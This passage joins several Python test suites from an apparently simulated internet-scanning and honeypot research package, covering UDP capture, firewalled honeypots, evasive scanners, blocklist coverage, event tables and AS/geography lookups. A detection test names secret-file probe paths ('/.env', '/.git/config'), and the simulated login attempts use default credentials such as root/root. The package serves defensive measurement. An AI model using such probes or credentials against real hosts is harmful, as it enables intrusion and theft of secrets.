        assert load_cached_value(tmp_path, "X3-metrics", other) is None
