"""Tests for the Section 7/8 extension features: UDP capture, firewalls,
honeypot evasion, blocklist efficacy, and campaign inference."""

import numpy as np
import pytest

from repro.analysis.blocklists import (
    blocklist_coverage,
    build_blocklist,
    regional_blocklist_matrix,
)
from repro.analysis.campaigns import campaign_agreement, infer_campaigns
from repro.deployment.fleet import build_full_deployment
from repro.detection.fingerprint import fingerprint
from repro.honeypots.base import VantagePoint
from repro.honeypots.firewall import FirewalledStack
from repro.honeypots.honeytrap import HoneytrapStack
from repro.net.packets import Transport
from repro.scanners.base import PortPlan, ScannerSpec
from repro.scanners.payloads import http_payload
from repro.scanners.strategies import TargetStrategy
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.events import Credential, NetworkKind, ScanIntent
from repro.sim.rng import RngHub


def make_vantage(stack):
    return VantagePoint(
        vantage_id="v", network="aws", kind=NetworkKind.CLOUD, region_code="US-CA",
        continent="NA", ips=np.asarray([1000], dtype=np.uint32), stack=stack,
    )


class TestUdpCapture:
    def test_udp_event_has_no_handshake_but_keeps_payload(self):
        stack = HoneytrapStack()
        intent = ScanIntent(
            timestamp=1.0, src_ip=7, dst_ip=1000, dst_port=5060,
            transport=Transport.UDP, protocol="sip",
            payload=b"OPTIONS sip:nm@1.2.3.4 SIP/2.0\r\nCSeq: 42 OPTIONS\r\n\r\n",
        )
        event = stack.capture(intent, make_vantage(stack), 1)
        assert not event.handshake  # honeypots never respond to UDP
        assert fingerprint(event.payload) == "sip"

    def test_population_emits_udp_traffic(self, dataset):
        udp_events = [e for e in dataset.events if e.transport is Transport.UDP]
        assert udp_events
        assert all(not event.handshake for event in udp_events)
        ports = {event.dst_port for event in udp_events}
        assert {5060, 123} <= ports


class TestFirewalledStack:
    def exploit_intent(self):
        return ScanIntent(
            timestamp=1.0, src_ip=7, dst_ip=1000, dst_port=80, protocol="http",
            payload=http_payload("log4shell").render(),
        )

    def benign_intent(self):
        return ScanIntent(
            timestamp=1.0, src_ip=7, dst_ip=1000, dst_port=80, protocol="http",
            payload=http_payload("root-get").render(),
        )

    def test_validation(self):
        with pytest.raises(ValueError):
            FirewalledStack(HoneytrapStack(), drop_probability=1.5)

    def test_full_drop_blocks_all_malicious(self):
        stack = FirewalledStack(HoneytrapStack(), drop_probability=1.0)
        assert stack.capture(self.exploit_intent(), make_vantage(stack), 1) is None
        assert stack.dropped == 1

    def test_benign_always_passes(self):
        stack = FirewalledStack(HoneytrapStack(), drop_probability=1.0)
        event = stack.capture(self.benign_intent(), make_vantage(stack), 1)
        assert event is not None

    def test_login_attempts_are_filterable(self):
        stack = FirewalledStack(HoneytrapStack(interactive_ports=frozenset({22})),
                                drop_probability=1.0)
        intent = ScanIntent(
            timestamp=1.0, src_ip=7, dst_ip=1000, dst_port=22, protocol="ssh",
            payload=b"SSH-2.0-x\r\n", credentials=(Credential("root", "root"),),
        )
        assert stack.capture(intent, make_vantage(stack), 1) is None

    def test_zero_probability_is_transparent(self):
        stack = FirewalledStack(HoneytrapStack(), drop_probability=0.0)
        assert stack.capture(self.exploit_intent(), make_vantage(stack), 1) is not None

    def test_partial_drop_deterministic(self):
        stack = FirewalledStack(HoneytrapStack(), drop_probability=0.5, seed=3)
        intents = [
            ScanIntent(timestamp=float(i), src_ip=i, dst_ip=1000, dst_port=80,
                       protocol="http", payload=http_payload("log4shell").render())
            for i in range(200)
        ]
        survived = [stack.capture(i, make_vantage(stack), 1) is not None for i in intents]
        again = FirewalledStack(HoneytrapStack(), drop_probability=0.5, seed=3)
        survived_again = [again.capture(i, make_vantage(again), 1) is not None for i in intents]
        assert survived == survived_again
        assert 0.3 < sum(survived) / len(survived) < 0.7

    def test_observes_delegates(self):
        from repro.honeypots.greynoise import GreyNoiseStack

        stack = FirewalledStack(GreyNoiseStack(frozenset({22})), 0.5)
        assert stack.observes(22) and not stack.observes(80)


class TestHoneypotEvasion:
    def test_validation(self):
        with pytest.raises(ValueError):
            ScannerSpec("s", "f", 4134, TargetStrategy(),
                        plans=(PortPlan(22, "ssh", 1.0),), honeypot_evasion=1.5)

    def test_evasive_scanner_underrepresented_at_honeypots(self):
        deployment = build_full_deployment(RngHub(9), num_telescope_slash24s=4)
        overt = ScannerSpec(
            "overt", "t", 4134, TargetStrategy(),
            plans=(PortPlan(22, "ssh", 2.0, credential_dialect="global-ssh"),),
            num_sources=4,
        )
        evasive = ScannerSpec(
            "evasive", "t", 56046, TargetStrategy(),
            plans=(PortPlan(22, "ssh", 2.0, credential_dialect="global-ssh"),),
            num_sources=4, honeypot_evasion=0.95,
        )
        result = run_simulation(deployment, [overt, evasive], SimulationConfig(seed=2))
        honeypot_counts = {4134: 0, 56046: 0}
        for event in result.events():
            honeypot_counts[event.src_asn] += 1
        telescope_counts = result.telescope.as_counts(22)
        # At honeypots the evasive campaign nearly vanishes...
        assert honeypot_counts[56046] < 0.2 * honeypot_counts[4134]
        # ...but the telescope still sees both at comparable volume.
        assert telescope_counts[56046] > 0.5 * telescope_counts[4134]

    def test_population_contains_evasive_family(self, small_context):
        families = {spec.family for spec in small_context.result.population}
        assert "evasive-ssh" in families


class TestBlocklists:
    def test_build_blocklist_is_malicious_only(self, dataset):
        vantages = dataset.vantages_in(network="aws")[:40]
        blocklist = build_blocklist(dataset, vantages)
        oracle = dataset.reputation_oracle()
        from repro.detection.classify import Reputation

        for src_ip in list(blocklist)[:50]:
            assert oracle.reputation(src_ip) is Reputation.MALICIOUS

    def test_training_cutoff_respected(self, dataset):
        vantages = dataset.vantages_in(network="aws")[:40]
        early = build_blocklist(dataset, vantages, until_hour=24.0)
        full = build_blocklist(dataset, vantages)
        assert early <= full
        assert len(early) < len(full)

    def test_self_coverage_high(self, dataset):
        vantages = dataset.vantages_in(network="google")[:40]
        blocklist = build_blocklist(dataset, vantages, until_hour=84.0)
        coverage = blocklist_coverage(dataset, blocklist, vantages, from_hour=84.0)
        assert coverage.event_coverage_pct > 60.0

    def test_empty_blocklist_blocks_nothing(self, dataset):
        vantages = dataset.vantages_in(network="aws")[:10]
        coverage = blocklist_coverage(dataset, set(), vantages)
        assert coverage.blocked_events == 0

    def test_regional_matrix_shape(self, dataset):
        cells = regional_blocklist_matrix(dataset)
        assert len(cells) == 9
        pairs = {(cell.source_group, cell.target_group) for cell in cells}
        assert ("AP", "AP") in pairs and ("NA", "EU") in pairs

    def test_apac_export_penalty(self, dataset):
        """The paper's prediction: blocklists travel poorly into APAC."""
        cells = {(c.source_group, c.target_group): c.coverage
                 for c in regional_blocklist_matrix(dataset)}
        ap_home = cells[("AP", "AP")].event_coverage_pct
        eu_into_ap = cells[("EU", "AP")].event_coverage_pct
        assert ap_home > eu_into_ap


class TestCampaignInference:
    def test_infer_and_purity(self, small_context):
        dataset = small_context.dataset
        campaigns = infer_campaigns(dataset, min_size=2)
        assert campaigns
        assert campaigns[0].size >= campaigns[-1].size  # sorted by size
        truth = {
            int(ip): scanner_id
            for scanner_id, ips in small_context.result.source_ips.items()
            for ip in ips
        }
        assert campaign_agreement(campaigns, truth) > 0.9

    def test_campaign_fields(self, dataset):
        campaigns = infer_campaigns(dataset, min_size=3)
        largest = campaigns[0]
        assert largest.ports and largest.asns
        assert largest.event_count >= largest.size

    def test_min_size_filter(self, dataset):
        all_campaigns = infer_campaigns(dataset, min_size=1)
        big_campaigns = infer_campaigns(dataset, min_size=5)
        assert len(big_campaigns) < len(all_campaigns)
        assert all(campaign.size >= 5 for campaign in big_campaigns)

    def test_agreement_of_empty(self):
        assert campaign_agreement([], {}) == 1.0
