"""Property tests for the columnar EventTable.

Two invariants the capture pipeline leans on:

* the table is a lossless view — materializing rows, writing them
  through the NDJSON release format, reading them back, and re-building
  a table reproduces every column exactly;
* the three append paths (scalar rows, column batches, shared-column
  views) consolidate into identical storage.
"""

from __future__ import annotations

import os
import tempfile

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.io.records import read_events, write_events
from repro.io.table import TRANSPORT_CODES, EventTable
from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, NetworkKind

#: Timestamps restricted to microsecond precision: the NDJSON writer
#: rounds to six decimals, so finer-grained floats cannot round-trip.
_timestamps = st.integers(min_value=0, max_value=168 * 10**6).map(lambda t: t / 10**6)
_text = st.text(max_size=12)
_credentials = st.tuples(_text, _text)


_events = st.builds(
    CapturedEvent,
    vantage_id=st.just("hp-1"),
    network=st.just("aws"),
    network_kind=st.just(NetworkKind.CLOUD),
    region=st.just("US-East"),
    timestamp=_timestamps,
    src_ip=st.integers(min_value=0, max_value=2**32 - 1),
    src_asn=st.integers(min_value=0, max_value=2**31 - 1),
    dst_ip=st.integers(min_value=0, max_value=2**32 - 1),
    dst_port=st.integers(min_value=0, max_value=65535),
    transport=st.sampled_from((Transport.TCP, Transport.UDP)),
    handshake=st.booleans(),
    payload=st.binary(max_size=40),
    credentials=st.tuples(_credentials).map(tuple) | st.just(()),
    commands=st.lists(_text, max_size=3).map(tuple),
)


def _object_array(values) -> np.ndarray:
    array = np.empty(len(values), dtype=object)
    array[:] = values
    return array


def _columns_equal(first: EventTable, second: EventTable) -> None:
    np.testing.assert_array_equal(first.timestamps, second.timestamps)
    np.testing.assert_array_equal(first.src_ip, second.src_ip)
    np.testing.assert_array_equal(first.src_asn, second.src_asn)
    np.testing.assert_array_equal(first.dst_ip, second.dst_ip)
    np.testing.assert_array_equal(first.dst_port, second.dst_port)
    np.testing.assert_array_equal(first.transport_code, second.transport_code)
    np.testing.assert_array_equal(first.handshake, second.handshake)
    assert list(first.payloads) == list(second.payloads)
    assert list(first.credentials) == list(second.credentials)
    assert list(first.commands) == list(second.commands)


@settings(max_examples=25, deadline=None)
@given(events=st.lists(_events, min_size=1, max_size=20))
def test_table_roundtrips_through_ndjson(events):
    table = EventTable.from_events(events)
    assert table.materialize() == events

    handle, path = tempfile.mkstemp(suffix=".ndjson")
    os.close(handle)
    try:
        write_events(path, table.materialize())
        recovered = EventTable.from_events(read_events(path))
    finally:
        os.unlink(path)

    _columns_equal(table, recovered)
    assert recovered.materialize() == events


#: Events batchable in one append_batch call: uniform port and transport.
_batch_events = st.builds(
    CapturedEvent,
    vantage_id=st.just("hp-1"),
    network=st.just("aws"),
    network_kind=st.just(NetworkKind.CLOUD),
    region=st.just("US-East"),
    timestamp=_timestamps,
    src_ip=st.integers(min_value=0, max_value=2**32 - 1),
    src_asn=st.integers(min_value=0, max_value=2**31 - 1),
    dst_ip=st.integers(min_value=0, max_value=2**32 - 1),
    dst_port=st.just(22),
    transport=st.just(Transport.TCP),
    handshake=st.booleans(),
    payload=st.binary(max_size=40),
    credentials=st.tuples(_credentials).map(tuple) | st.just(()),
    commands=st.lists(_text, max_size=3).map(tuple),
)


@settings(max_examples=25, deadline=None)
@given(
    head=st.lists(_batch_events, min_size=1, max_size=10),
    tail=st.lists(_events, min_size=0, max_size=10),
)
def test_append_paths_consolidate_identically(head, tail):
    events = head + tail
    row_table = EventTable.from_events(events)

    # Mixed table: the head appended as one column batch, the tail as rows.
    mixed = EventTable("hp-1", "aws", NetworkKind.CLOUD, "US-East")
    mixed.append_batch(
        timestamps=np.array([event.timestamp for event in head]),
        src_ips=np.array([event.src_ip for event in head], dtype=np.int64),
        src_asns=np.array([event.src_asn for event in head], dtype=np.int64),
        dst_ips=np.array([event.dst_ip for event in head], dtype=np.int64),
        dst_port=22,
        transport=Transport.TCP,
        handshake=np.array([event.handshake for event in head]),
        payloads=_object_array([event.payload for event in head]),
        credentials=_object_array([event.credentials for event in head]),
        commands=_object_array([event.commands for event in head]),
    )
    for event in tail:
        mixed.append_event(event)

    _columns_equal(row_table, mixed)
    assert mixed.materialize() == events
    assert len(mixed) == len(events)
    assert mixed.timestamps.dtype == np.float64
    assert mixed.transport_code.dtype == np.int8
    assert mixed.handshake.dtype == np.bool_


def test_append_view_shares_columns_zero_copy():
    shared = {
        "timestamps": np.array([1.0, 2.0, 3.0, 4.0]),
        "src_ip": np.array([10, 11, 12, 13], dtype=np.int64),
        "src_asn": np.array([1, 1, 2, 2], dtype=np.int64),
        "dst_ip": 99,
        "dst_port": 22,
        "transport_code": TRANSPORT_CODES[Transport.TCP],
        "handshake": True,
        "payload": b"SSH-2.0-x",
        "credentials": (("root", "admin"),),
        "commands": (),
    }
    first = EventTable("hp-1", "aws", NetworkKind.CLOUD, "US-East")
    second = EventTable("hp-2", "aws", NetworkKind.CLOUD, "EU-West")
    assert first.append_view(shared, 0, 2) == 2
    assert second.append_view(shared, 2, 4) == 2
    assert second.append_view(shared, 3, 3) == 0  # empty range is a no-op

    np.testing.assert_array_equal(first.timestamps, [1.0, 2.0])
    np.testing.assert_array_equal(second.timestamps, [3.0, 4.0])
    np.testing.assert_array_equal(second.src_ip, [12, 13])
    # Scalars broadcast over each view's row range.
    np.testing.assert_array_equal(first.dst_ip, [99, 99])
    assert list(second.payloads) == [b"SSH-2.0-x", b"SSH-2.0-x"]
    rows = second.materialize()
    assert [event.vantage_id for event in rows] == ["hp-2", "hp-2"]
    assert rows[0].credentials == (("root", "admin"),)
    assert rows[0].transport is Transport.TCP
