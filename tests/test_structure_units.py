"""Unit tests for Figure 1 structure profiles on synthetic telescopes."""

import numpy as np
import pytest

from repro.analysis.structure import figure1_series, structure_profile
from repro.honeypots.base import VantagePoint
from repro.honeypots.telescope import TelescopeCapture, TelescopeStack
from repro.net.addresses import ip_to_int, vector_has_255_octet, vector_is_first_of_slash16
from repro.sim.events import NetworkKind


def synthetic_telescope(num_slash24s=8):
    """/24s spanning a /16 including its .0 and .255 third octets."""
    blocks = [0, 1, 2, 64, 128, 200, 254, 255][:num_slash24s]
    ips = np.concatenate(
        [np.arange(ip_to_int(f"198.200.{b}.0"), ip_to_int(f"198.200.{b}.0") + 256,
                   dtype=np.uint32) for b in blocks]
    )
    vantage = VantagePoint(
        vantage_id="orion", network="orion", kind=NetworkKind.TELESCOPE,
        region_code="US-EAST", continent="NA", ips=ips, stack=TelescopeStack(),
    )
    return TelescopeCapture(vantage)


class TestStructureProfile:
    def test_uniform_traffic_ratio_one(self):
        capture = synthetic_telescope()
        capture.record_destination_sources(80, np.full(capture.vantage.num_ips, 10))
        profile = structure_profile(capture, 80)
        assert profile.any_255_ratio == pytest.approx(1.0)
        assert profile.trailing_255_ratio == pytest.approx(1.0)
        assert profile.top_target_concentration == pytest.approx(1.0)

    def test_255_avoidance_measured_correctly(self):
        capture = synthetic_telescope()
        ips = capture.vantage.ips
        counts = np.full(len(ips), 90.0)
        counts[vector_has_255_octet(ips)] = 10.0  # exactly 9x avoidance
        capture.record_destination_sources(445, counts.astype(np.int64))
        profile = structure_profile(capture, 445)
        assert profile.avoidance_factor_any_255() == pytest.approx(9.0)

    def test_slash16_first_preference(self):
        capture = synthetic_telescope()
        ips = capture.vantage.ips
        counts = np.full(len(ips), 5.0)
        counts[vector_is_first_of_slash16(ips)] = 50.0
        capture.record_destination_sources(22, counts.astype(np.int64))
        profile = structure_profile(capture, 22)
        assert profile.slash16_first_ratio == pytest.approx(10.0, rel=0.01)

    def test_latching_concentration(self):
        capture = synthetic_telescope()
        counts = np.ones(capture.vantage.num_ips, dtype=np.int64)
        counts[100] = 500
        capture.record_destination_sources(17128, counts)
        profile = structure_profile(capture, 17128)
        assert profile.top_target_concentration > 100.0

    def test_empty_port(self):
        capture = synthetic_telescope()
        profile = structure_profile(capture, 9999)
        assert profile.mean_scanners == 0.0
        assert profile.top_target_concentration == 0.0

    def test_missing_class_yields_none(self):
        """A telescope with no 255-octet addresses cannot measure that class."""
        vantage = VantagePoint(
            vantage_id="tiny", network="orion", kind=NetworkKind.TELESCOPE,
            region_code="US-EAST", continent="NA",
            ips=np.arange(ip_to_int("10.0.0.1"), ip_to_int("10.0.0.9"), dtype=np.uint32),
            stack=TelescopeStack(),
        )
        capture = TelescopeCapture(vantage)
        capture.record_destination_sources(80, np.ones(8, dtype=np.int64))
        assert structure_profile(capture, 80).any_255_ratio is None


class TestFigure1Series:
    def test_window_clamped(self):
        capture = synthetic_telescope(2)
        capture.record_destination_sources(80, np.ones(capture.vantage.num_ips, dtype=np.int64))
        series = figure1_series(capture, 80, window=512)
        assert series.shape == (capture.vantage.num_ips,)
        assert np.allclose(series, 1.0)

    def test_smoothing_reduces_variance(self):
        capture = synthetic_telescope()
        rng = np.random.default_rng(0)
        raw = rng.poisson(20, capture.vantage.num_ips)
        capture.record_destination_sources(80, raw)
        smoothed = figure1_series(capture, 80, window=256)
        assert smoothed.std() < raw.std()

    def test_requires_telescope(self):
        from repro.analysis.dataset import AnalysisDataset
        from repro.sim.clock import WEEK_2021

        vantage = synthetic_telescope().vantage
        dataset = AnalysisDataset([], [vantage], WEEK_2021, telescope=None)
        with pytest.raises(ValueError):
            figure1_series(dataset, 80)
