"""Cross-cutting property-based tests (hypothesis).

Deeper invariants than the per-module suites: strategy weight algebra,
union-table structure, bootstrap coverage, rule-engine consistency, and
intent validity over randomized plans.
"""

from collections import Counter

import numpy as np
import pytest
from hypothesis import assume, given, settings, strategies as st

from repro.net.addresses import MAX_IPV4
from repro.scanners.base import PortPlan
from repro.scanners.strategies import (
    KIND_INDEX,
    CoverageModel,
    StructureBias,
    TargetSet,
    TargetStrategy,
)
from repro.sim.events import NetworkKind
from repro.sim.rng import RngHub
from repro.stats.bootstrap import bootstrap_proportion
from repro.stats.contingency import chi_square_test
from repro.stats.topk import top_k, union_table

HUB = RngHub(77)

ips_strategy = st.lists(
    st.integers(min_value=0, max_value=MAX_IPV4), min_size=1, max_size=64, unique=True
)


def make_targets(ips):
    n = len(ips)
    kinds = [list(KIND_INDEX.values())[i % 3] for i in range(n)]
    return TargetSet(
        ips=np.asarray(ips, dtype=np.uint32),
        kind_codes=np.asarray(kinds, dtype=np.int8),
        regions=np.asarray(["US-CA", "AP-SG", "EU-DE"][:1] * n, dtype=object),
        continents=np.asarray(["NA"] * n, dtype=object),
        networks=np.asarray(["aws"] * n, dtype=object),
    )


class TestStrategyProperties:
    @given(ips_strategy, st.floats(min_value=0.05, max_value=1.0))
    @settings(max_examples=40)
    def test_weights_nonnegative_and_bounded_by_coverage(self, ips, fraction):
        strategy = TargetStrategy(coverage=CoverageModel(fraction))
        weights = strategy.weights(HUB, "s", make_targets(ips))
        assert (weights >= 0).all()
        assert (weights <= 1.0).all()  # no boosts configured

    @given(ips_strategy)
    @settings(max_examples=30)
    def test_kind_zeroing_is_total(self, ips):
        strategy = TargetStrategy(
            kind_weights={kind: 0.0 for kind in NetworkKind}
        )
        weights = strategy.weights(HUB, "s", make_targets(ips))
        assert (weights == 0).all()

    @given(ips_strategy, st.floats(min_value=0.01, max_value=0.99))
    @settings(max_examples=30)
    def test_structure_bias_never_negative(self, ips, factor):
        bias = StructureBias(any_255_factor=factor, trailing_255_factor=factor,
                             slash16_first_factor=1.0 / factor)
        weights = bias.weights(np.asarray(ips, dtype=np.uint32))
        assert (weights > 0).all()

    @given(ips_strategy, st.integers(min_value=1, max_value=5))
    @settings(max_examples=30)
    def test_latch_exclusive_count_bounded(self, ips, count):
        strategy = TargetStrategy(latch_count=count, latch_multiplier=3.0,
                                  latch_exclusive=True)
        weights = strategy.weights(HUB, "s", make_targets(ips))
        assert 0 < (weights > 0).sum() <= count


class TestTopKProperties:
    counters_strategy = st.dictionaries(
        st.text(min_size=1, max_size=4),
        st.dictionaries(st.integers(min_value=0, max_value=50),
                        st.integers(min_value=1, max_value=100),
                        min_size=1, max_size=10),
        min_size=2, max_size=6,
    )

    @given(counters_strategy, st.integers(min_value=1, max_value=5))
    @settings(max_examples=40)
    def test_union_table_dimensions(self, groups, k):
        table, group_order, categories = union_table(groups, k=k)
        assert table.shape == (len(groups), len(categories))
        assert set(group_order) == set(groups)
        # every category is in someone's top-k
        for column, category in enumerate(categories):
            assert any(category in top_k(counts, k) for counts in groups.values())

    @given(counters_strategy)
    @settings(max_examples=40)
    def test_identical_groups_never_significant(self, groups):
        first = next(iter(groups.values()))
        cloned = {"a": Counter(first), "b": Counter(first)}
        result = chi_square_test(union_table(cloned, 3)[0])
        if result.valid:
            assert not result.significant()
            assert result.phi < 1e-6


class TestBootstrapProperties:
    @given(st.lists(st.booleans(), min_size=5, max_size=200))
    @settings(max_examples=40)
    def test_interval_contains_estimate(self, flags):
        ci = bootstrap_proportion(flags, resamples=200)
        assert ci.low <= ci.estimate <= ci.high
        assert 0.0 <= ci.low and ci.high <= 100.0

    @given(st.integers(min_value=5, max_value=100))
    @settings(max_examples=20)
    def test_degenerate_all_true(self, size):
        ci = bootstrap_proportion([True] * size, resamples=100)
        assert ci.estimate == ci.low == ci.high == 100.0


class TestIntentProperties:
    ports = st.sampled_from([22, 23, 80, 443, 8080])
    protocols = st.sampled_from(["http", "ssh", "telnet", "tls", "smb", ""])

    @given(ports, protocols, st.integers(min_value=0, max_value=2**31 - 1))
    @settings(max_examples=60)
    def test_build_intent_always_valid(self, port, protocol, seed):
        rng = np.random.default_rng(seed)
        kwargs = {}
        if protocol == "http":
            kwargs = {"http_payloads": ("root-get",), "http_weights": (1.0,)}
        elif protocol in ("ssh", "telnet"):
            kwargs = {"credential_dialect": f"global-{protocol}",
                      "credential_attempts": (1, 3)}
        plan = PortPlan(port, protocol, 1.0, **kwargs)
        intent = plan.build_intent(rng, 12.0, 1, 2)
        assert intent.dst_port == port
        assert intent.timestamp == 12.0
        if protocol in ("ssh", "telnet") and intent.credentials:
            assert all(isinstance(u, str) and isinstance(p, str)
                       for u, p in (c.as_tuple() for c in intent.credentials))
        if protocol == "":
            assert intent.payload == b""


class TestRuleEngineProperties:
    @given(st.binary(min_size=0, max_size=200))
    @settings(max_examples=60)
    def test_verdict_stable(self, payload):
        from repro.detection.engine import RuleEngine

        engine = RuleEngine()
        assert engine.is_malicious(payload) == engine.is_malicious(payload)

    @given(st.text(alphabet="abcdefghij /", min_size=0, max_size=60))
    @settings(max_examples=40)
    def test_benign_text_rarely_alerts(self, text):
        """Plain lowercase text without exploit markers never alerts."""
        from repro.detection.engine import RuleEngine

        payload = f"GET /{text} HTTP/1.1\r\n\r\n".encode()
        assume("/.env" not in f"/{text}")
        assume("/.git/config" not in f"/{text}")
        engine = RuleEngine()
        assert not engine.is_malicious(payload)
