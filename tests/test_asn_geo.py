"""Tests for the AS registry and geography model."""

import pytest

from repro.net.addresses import Prefix, ip_to_int
from repro.net.asn import ASRegistry, AutonomousSystem, PAPER_ASES, default_registry
from repro.net.geo import Continent, REGIONS, region, region_pairs, regions_in


class TestAutonomousSystem:
    def test_membership(self):
        system = AutonomousSystem(65000, "Test", "US", (Prefix.parse("10.0.0.0/24"),))
        assert ip_to_int("10.0.0.5") in system
        assert ip_to_int("10.0.1.5") not in system

    def test_rejects_nonpositive_asn(self):
        with pytest.raises(ValueError):
            AutonomousSystem(0, "Bad", "US")

    def test_str(self):
        system = AutonomousSystem(4134, "Chinanet", "CN")
        assert "AS4134" in str(system)


class TestASRegistry:
    def test_default_registry_contains_paper_ases(self):
        registry = default_registry()
        for system in PAPER_ASES:
            assert system.asn in registry
            assert registry.get(system.asn).name == system.name

    def test_lookup_longest_prefix(self):
        registry = ASRegistry(
            [
                AutonomousSystem(1, "Big", "US", (Prefix.parse("10.0.0.0/8"),)),
                AutonomousSystem(2, "Small", "US", (Prefix.parse("10.1.0.0/16"),)),
            ]
        )
        assert registry.lookup(ip_to_int("10.1.2.3")).asn == 2
        assert registry.lookup(ip_to_int("10.2.2.3")).asn == 1
        assert registry.lookup(ip_to_int("11.0.0.1")) is None

    def test_asn_of_unrouted_raises(self):
        registry = ASRegistry()
        with pytest.raises(KeyError):
            registry.asn_of(ip_to_int("203.0.113.1"))

    def test_duplicate_asn_rejected(self):
        registry = ASRegistry([AutonomousSystem(1, "A", "US", (Prefix.parse("10.0.0.0/8"),))])
        with pytest.raises(ValueError):
            registry.add(AutonomousSystem(1, "B", "US"))

    def test_duplicate_prefix_rejected(self):
        registry = ASRegistry([AutonomousSystem(1, "A", "US", (Prefix.parse("10.0.0.0/8"),))])
        with pytest.raises(ValueError):
            registry.add(AutonomousSystem(2, "B", "US", (Prefix.parse("10.0.0.0/8"),)))

    def test_get_unknown_raises(self):
        with pytest.raises(KeyError):
            ASRegistry().get(99999)

    def test_allocation_unique_and_inside_prefix(self):
        registry = default_registry()
        allocated = {registry.allocate_source(4134) for _ in range(100)}
        assert len(allocated) == 100
        for address in allocated:
            assert registry.asn_of(address) == 4134

    def test_allocation_exhaustion(self):
        registry = ASRegistry(
            [AutonomousSystem(1, "Tiny", "US", (Prefix.parse("10.0.0.0/30"),))]
        )
        registry.allocate_source(1)
        registry.allocate_source(1)
        registry.allocate_source(1)
        with pytest.raises(RuntimeError):
            registry.allocate_source(1)

    def test_allocation_without_prefix(self):
        registry = ASRegistry([AutonomousSystem(1, "NoPrefix", "US")])
        with pytest.raises(RuntimeError):
            registry.allocate_source(1)

    def test_iteration_and_len(self):
        registry = default_registry()
        assert len(registry) == len(list(registry))
        assert len(registry) > 40  # paper ASes + background tail

    def test_registry_prefixes_disjoint(self):
        """No two ASes may announce overlapping space at the same length."""
        registry = default_registry()
        seen: set[tuple[int, int]] = set()
        for system in registry:
            for prefix in system.prefixes:
                key = (prefix.network, prefix.length)
                assert key not in seen
                seen.add(key)


class TestGeography:
    def test_region_lookup(self):
        sg = region("AP-SG")
        assert sg.country == "SG"
        assert sg.continent is Continent.ASIA_PACIFIC
        assert sg.is_asia_pacific

    def test_unknown_region(self):
        with pytest.raises(KeyError):
            region("XX-YY")

    def test_region_codes_unique(self):
        codes = [entry.code for entry in REGIONS]
        assert len(codes) == len(set(codes))

    def test_regions_in_continent(self):
        ap = regions_in(Continent.ASIA_PACIFIC)
        assert all(entry.continent is Continent.ASIA_PACIFIC for entry in ap)
        assert {"AP-SG", "AP-JP"} <= {entry.code for entry in ap}

    def test_regions_in_with_codes(self):
        found = regions_in(Continent.EUROPE, ["EU-DE", "AP-SG", "US-CA"])
        assert [entry.code for entry in found] == ["EU-DE"]

    def test_region_pairs_count(self):
        pairs = region_pairs(["US-CA", "US-OR", "US-NV"])
        assert len(pairs) == 3
        assert all(first != second for first, second in pairs)

    def test_region_pairs_deduplicate(self):
        assert len(region_pairs(["US-CA", "US-CA", "US-OR"])) == 1

    def test_us_states_disambiguated(self):
        assert region("US-CA").subdivision == "CA"
        assert region("US-OR").subdivision == "OR"
