"""Smoke + shape tests for every experiment driver (T1-T17, F1, M1)."""

import pytest

from repro.experiments import (
    ALL_EXPERIMENTS,
    figure01_address_structure,
    method_maliciousness,
    table01_vantage_points,
    table02_neighborhoods,
    table03_search_engines,
    table04_geo_most_different,
    table05_geo_similarity,
    table06_colocated,
    table07_network_types,
    table08_telescope_overlap,
    table09_attacker_overlap,
    table10_telescope_as,
    table11_unexpected_protocols,
)
from repro.experiments.temporal import (
    run_table12,
    run_table13,
    run_table14,
    run_table15,
    run_table16,
    run_table17,
)


class TestRegistry:
    def test_all_experiments_registered(self):
        expected = {f"T{i}" for i in range(1, 18)} | {
            "F1", "M1", "X1", "X2", "X3", "X4", "X5"}
        assert set(ALL_EXPERIMENTS) == expected


class TestDrivers2021:
    def test_t1(self, small_context):
        output = table01_vantage_points.run(small_context)
        assert output.experiment_id == "T1"
        assert "orion" in output.text
        networks = {row.network for row in output.data}
        assert {"aws", "google", "azure", "linode", "hurricane",
                "stanford", "merit", "orion"} <= networks

    def test_t2(self, small_context):
        output = table02_neighborhoods.run(small_context)
        assert output.experiment_id == "T2"
        cells = output.data.cells
        assert len(cells) == 14  # 4+4+3+3 slice/characteristic combinations
        assert any(cell.num_different > 0 for cell in cells)

    def test_t3(self, small_context):
        output = table03_search_engines.run(small_context)
        rows = output.data["rows"]
        assert len(rows) == 18  # 3 services x 3 groups x 2 traffic classes
        assert output.data["unique_passwords"]["control"] > 0

    def test_t4(self, small_context):
        output = table04_geo_most_different.run(small_context)
        cells = output.data
        networks = {cell.network for cell in cells}
        assert networks == {"aws", "google", "linode"}
        significant = [cell for cell in cells if cell.region is not None]
        assert significant, "some region must deviate"
        # The paper's headline: deviant regions concentrate in Asia Pacific.
        ap_share = sum(1 for cell in significant if cell.region.startswith("AP")) / len(
            significant
        )
        assert ap_share > 0.5

    def test_t5(self, small_context):
        output = table05_geo_similarity.run(small_context)
        groupings = {summary.grouping for summary in output.data}
        assert {"US", "APAC", "intercontinental"} <= groupings

        def mean_similarity(grouping, characteristic):
            cells = [
                s for s in output.data
                if s.grouping == grouping and s.characteristic == characteristic
                and s.num_pairs > 0
            ]
            return sum(c.percent_similar for c in cells) / len(cells)

        # US regions more alike than APAC regions (Table 5's central claim).
        assert mean_similarity("US", "payload") >= mean_similarity("APAC", "payload")

    def test_t6(self, small_context):
        output = table06_colocated.run(small_context)
        assert output.data, "co-located cloud pairs must exist"
        assert all(region.startswith(("US", "EU", "CA")) for _a, _b, region in output.data)

    def test_t7(self, small_context):
        output = table07_network_types.run(small_context)
        comparisons = {cell.comparison for cell in output.data}
        assert comparisons == {"cloud-cloud", "cloud-edu", "edu-edu"}
        unmeasurable = [cell for cell in output.data if not cell.measurable]
        # Honeytrap sites cannot observe credentials: x cells exist.
        assert any(cell.characteristic in ("username", "password") for cell in unmeasurable)

    def test_t8(self, small_context):
        output = table08_telescope_overlap.run(small_context)
        assert [row.port for row in output.data] == [23, 2323, 80, 8080, 21, 2222, 25, 7547, 22, 443]

    def test_t9(self, small_context):
        output = table09_attacker_overlap.run(small_context)
        ssh_row = next(row for row in output.data if row.port == 22)
        assert ssh_row.telescope_edu_pct is None  # x in the paper

    def test_t10(self, small_context):
        output = table10_telescope_as.run(small_context)
        assert len(output.data) == 8

    def test_t11(self, small_context):
        output = table11_unexpected_protocols.run(small_context)
